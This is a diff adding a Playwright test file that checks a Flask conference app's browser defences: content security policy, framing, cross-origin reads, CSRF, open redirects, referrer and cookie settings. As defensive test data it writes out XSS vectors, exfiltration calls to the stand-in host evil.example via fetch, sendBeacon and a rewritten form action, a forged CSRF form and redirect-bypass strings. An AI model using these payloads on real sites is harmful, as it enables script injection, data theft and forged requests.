@@ -1,0 +1,289 @@
+"""What a real browser does with our headers, cookies, forms and redirects, and what another site cannot do."""
+
+import shutil
+from collections.abc import Iterator
+from contextlib import closing
+from pathlib import Path
+
+import pytest
+from flask import Flask
+from playwright.sync_api import Browser, BrowserContext, Page, Request, Route
+from sqlalchemy.orm import Session
+
+from ekc.conferences.queries import circle
+from ekc.people.access import Visitor
+from tests.build import Made, case_in_setup
+from tests.cast import PASSWORD, Cast, mail_of
+from tests.clock import FrozenClock
+from tests.plugins.browser import FLAGS, NOWHERE_ELSE, served
+from tests.plugins.web import MakeApp
+
+#: Somebody else's site, of another domain. The browser asks nobody: the test answers for it.
+EVIL = "http://evil.example"
+#: What a browser does does not hang on the database.
+pytestmark = pytest.mark.parametrize("database", ["sqlite"], indirect=True)
+
+
+@pytest.fixture
+def case(db_session: Session, cast: Cast, clock: FrozenClock) -> Made:
+    """A case in setup; nobody looks at it."""
+    made = case_in_setup(db_session, cast, clock())
+    db_session.rollback()
+    return made
+
+
+@pytest.fixture
+def context(browser: Browser, live_server: str) -> Iterator[BrowserContext]:
+    """A browser of one's own, that may complain as it likes."""
+    with closing(browser.new_context(base_url=live_server)) as made:
+        made.set_default_timeout(5000)
+        yield made
+
+
+def come_in(page: Page, person: Visitor, address: str = "") -> None:
+    page.goto(f"/sign-in?next={address}")
+    page.get_by_label("Mail address").fill(mail_of(person.actor.name))
+    page.get_by_label("Password", exact=True).fill(PASSWORD)
+    page.get_by_role("button", name="Sign in").click()
+    page.get_by_role("button", name="Sign out").wait_for()
+
+
+def evil_page(context: BrowserContext, html: str) -> Page:
+    """A page of the other site, open in the visitor's browser."""
+    context.route(f"{EVIL}/**", lambda route: route.fulfill(content_type="text/html", body=html))
+    page = context.new_page()
+    page.goto(f"{EVIL}/")
+    return page
+
+
+def names(session: Session, case: Made) -> list[str]:
+    session.rollback()
+    return [row.name for row in circle(session, case.id)]
+
+
+#: Ways in which a script may come into a page, and from where.
+ADD_SCRIPT = "(given) => document.body.append(Object.assign(document.createElement('script'), given))"
+ADD_HTML = "(html) => document.body.insertAdjacentHTML('beforeend', html)"
+WAYS = (
+    (ADD_SCRIPT, {"textContent": "window.ran = 1"}),
+    (ADD_SCRIPT, {"src": f"{EVIL}/x.js"}),
+    (ADD_SCRIPT, {"src": "data:text/javascript,window.ran=1"}),
+    (ADD_HTML, '<img src="x" onerror="window.ran = 1">'),
+    (ADD_HTML + " || document.getElementById('x').click()", '<a id="x" href="javascript:window.ran=1">x</a>'),
+    (ADD_HTML + " || document.baseURI.startsWith('http://evil') && (window.ran = 1)", f'<base href="{EVIL}/">'),
+    ("(code) => void setTimeout(code, 0)", "window.ran = 1"),
+)
+
+
+def test_no_script_that_got_into_a_page_runs(context: BrowserContext) -> None:
+    context.route(f"{EVIL}/**", lambda route: route.fulfill(content_type="text/javascript", body="window.ran = 1"))
+    page, refused = context.new_page(), list[str]()
+    page.on("console", lambda said: refused.append(said.text) if "Content Security Policy" in said.text else None)
+    ran = []
+    for way, given in WAYS:
+        page.goto("/sign-in")
+        page.evaluate(way, given)
+        page.evaluate("() => new Promise((done) => setTimeout(done, 50))")  # some more turns of the page
+        ran.append(page.evaluate("window.ran"))
+
+    assert ran == [None] * len(WAYS)
+    assert len(refused) == len(WAYS)
+
+
+def test_what_a_page_is_told_to_send_elsewhere_stays(context: BrowserContext) -> None:
+    sent = list[Request]()
+    context.on("request", lambda request: sent.append(request) if request.url.startswith(EVIL) else None)
+    page = context.new_page()
+    page.goto("/sign-in")
+    page.get_by_label("Mail address").fill("noor@example.org")
+
+    page.evaluate(f"document.querySelector('main form').action = '{EVIL}/'")
+    page.evaluate("document.querySelector('main form button').click()")
+    page.evaluate(f"fetch('{EVIL}/', {{method: 'POST', body: 'x'}}).catch(() => 0)")
+    page.evaluate(f"navigator.sendBeacon('{EVIL}/', 'x')")
+
+    assert (sent, page.url.endswith("/sign-in")) == ([], True)
+
+
+@pytest.mark.parametrize("where", ["another domain", "another port"])
+def test_no_page_of_ours_stands_in_a_frame(context: BrowserContext, live_server: str, where: str) -> None:
+    html = f'<iframe src="{live_server}/sign-in"></iframe>'
+    other = Flask("other")
+    other.add_url_rule("/", "page", lambda: html)
+    with served(other) as address:
+        page = evil_page(context, html) if where == "another domain" else context.new_page()
+        if where == "another port":
+            page.goto(address)
+        page.wait_for_load_state("networkidle")
+
+        [frame] = page.frames[1:]
+        assert frame.url == "chrome-error://chromewebdata/"
+
+
+def test_another_site_reads_nothing_of_ours(context: BrowserContext, live_server: str, cast: Cast) -> None:
+    come_in(context.new_page(), cast.noor)
+    page = evil_page(context, "<p>Evil</p>")
+    ask = "([url, mode]) => fetch(url, {mode, credentials: 'include'}).then(() => 'read', () => 'refused')"
+
+    answers = [
+        page.evaluate(ask, [f"{live_server}{path}", mode])
+        for path in ("/", "/static/css/ekc.css")
+        for mode in ("cors", "no-cors")
+    ]
+
+    assert answers == ["refused"] * 4
+
+
+@pytest.mark.parametrize("where", ["another domain", "another port"])
+def test_another_site_sends_no_form_in_the_name_of_the_visitor(
+    context: BrowserContext, live_server: str, db_session: Session, cast: Cast, case: Made, where: str
+) -> None:
+    """From another port the browser sends the cookie along; even a token that was stolen is no use there."""
+    ours = context.new_page()
+    come_in(ours, cast.noor, f"/conferences/{case.id}/circle")
+    token = ours.locator("form[action$='/circle'] input[name=csrf_token]").first.get_attribute("value")
+    before = names(db_session, case)
+    html = (
+        f'<form method="post" action="{live_server}/conferences/{case.id}/circle">'
+        f'<input name="name" value="Evil"><input name="part" value="family"><input name="csrf_token" value="{token}">'
+        "<button>Win a prize</button></form>"
+    )
+    other = Flask("other")
+    other.add_url_rule("/", "page", lambda: html)
+    with served(other) as address:
+        page = evil_page(context, html) if where == "another domain" else context.new_page()
+        if where == "another port":
+            page.goto(address)
+        page.get_by_role("button").click()
+        page.get_by_role("heading", name="This could not be read").wait_for()
+
+    assert names(db_session, case) == before
+    ours.reload()
+    assert ours.get_by_role("button", name="Sign out").is_visible()
+
+
+@pytest.mark.parametrize(
+    "target", [f"{EVIL}/", "//evil.example/", "/\\evil.example/", "/%09/evil.example", "javascript:alert(1)"]
+)
+def test_nobody_is_sent_on_to_another_site(context: BrowserContext, live_server: str, cast: Cast, target: str) -> None:
+    left = list[str]()
+    context.route(f"{EVIL}/**", lambda route: _note(left, route))
+    page = context.new_page()
+
+    come_in(page, cast.noor, target)
+    page.goto(f"/language/nl?next={target}")
+    page.goto(f"/sign-in?next={target}")
+
+    assert (left, page.url.startswith(f"{live_server}/")) == ([], True)
+
+
+def _note(left: list[str], route: Route) -> None:
+    left.append(route.request.url)
+    route.abort()
+
+
+def test_another_site_is_not_told_where_one_was(context: BrowserContext, cast: Cast, case: Made) -> None:
+    told = list[str | None]()
+    context.on("request", lambda r: told.append(r.headers.get("referer")) if r.url.startswith(EVIL) else None)
+    context.route(f"{EVIL}/**", lambda route: route.fulfill(content_type="text/html", body="Evil"))
+    page = context.new_page()
+    come_in(page, cast.noor, f"/conferences/{case.id}")
+
+    page.evaluate(f"location.href = '{EVIL}/'")
+    page.wait_for_url(f"{EVIL}/")
+
+    assert told == [None]
+
+
+def test_cookies_by_https(
+    browser: Browser, make_app: MakeApp, database_url: str, cast: Cast, clock: FrozenClock
+) -> None:
+    app = make_app(secure_cookies=True)
+    with (
+        served(app, tls=True) as address,
+        closing(browser.new_context(base_url=address, ignore_https_errors=True)) as context,
+    ):
+        context.set_default_timeout(5000)
+        page = context.new_page()
+        page.goto("/language/nl?next=/language/en")
+        come_in(page, cast.noor)
+
+        assert page.evaluate("document.cookie") == ""
+        assert sorted(
+            (c["name"], c["secure"], c["httpOnly"], c["sameSite"], c["path"], c["domain"]) for c in context.cookies()
+        ) == [
+            ("__Host-language", True, True, "Lax", "/", "127.0.0.1"),
+            ("__Host-session", True, True, "Lax", "/", "127.0.0.1"),
+        ]
+
+
+@pytest.fixture
+def keeping_context(browser: Browser, live_server: str) -> Iterator[BrowserContext]:
+    """A browser that keeps pages for Back, as everybody's does; Playwright switches that off."""
+    path = shutil.which("chromium")
+    args = [*FLAGS, NOWHERE_ELSE]
+    kept = ["--disable-back-forward-cache"]
+    with (
+        closing(
+            browser.browser_type.launch(
+                executable_path=path, chromium_sandbox=False, args=args, ignore_default_args=kept
+            )
+        ) as started,
+        closing(started.new_context(base_url=live_server)) as made,
+    ):
+        made.set_default_timeout(5000)
+        yield made
+
+
+def test_after_signing_out_back_shows_nothing(keeping_context: BrowserContext, cast: Cast, case: Made) -> None:
+    page = keeping_context.new_page()
+    come_in(page, cast.noor, f"/conferences/{case.id}")
+    page.get_by_role("link", name="Circle", exact=True).click()
+    page.get_by_role("heading", name="The circle").wait_for()
+    page.evaluate("history.back()")
+    page.get_by_role("heading", name="Family De Wit - El Amrani").wait_for()  # while signed in, it is still there
+
+    page.get_by_role("button", name="Sign out").click()
+    page.get_by_role("link", name="Sign in").wait_for()
+    for _ in range(2):
+        page.evaluate("history.back()")
+        page.wait_for_function("document.readyState === 'complete'")
+        page.get_by_label("Password", exact=True).wait_for()
+        assert "De Wit" not in page.content()
+
+
+def test_a_file_is_put_into_no_form(
+    context: BrowserContext, db_session: Session, cast: Cast, case: Made, tmp_path: Path
+) -> None:
+    file = tmp_path / "x.html"
+    file.write_text("<script>window.ran = 1</script>")
+    before = names(db_session, case)
+    page = context.new_page()
+    come_in(page, cast.noor, f"/conferences/{case.id}/circle")
+    page.evaluate(
+        """() => {
+            const form = document.querySelector('form[action$="/circle"]');
+            form.enctype = 'multipart/form-data';
+            form.append(Object.assign(document.createElement('input'), {type: 'file', name: 'name'}));
+        }"""
+    )
+
+    page.locator("input[type=file]").set_input_files(file)
+    page.get_by_role("button", name="Add to the circle").click()
+
+    page.get_by_role("heading", name="This could not be read").wait_for()
+    assert names(db_session, case) == before
+
+
+def test_too_much_at_once_is_told_on_a_page(
+    context: BrowserContext, db_session: Session, cast: Cast, case: Made
+) -> None:
+    page = context.new_page()
+    come_in(page, cast.noor, f"/conferences/{case.id}/circle")
+    page.get_by_label("Name", exact=True).evaluate(
+        "f => { f.removeAttribute('maxlength'); f.value = 'x'.repeat(1_100_000) }"
+    )
+
+    page.get_by_role("button", name="Add to the circle").click()
+
+    page.get_by_role("heading", name="That is too much at once").wait_for()
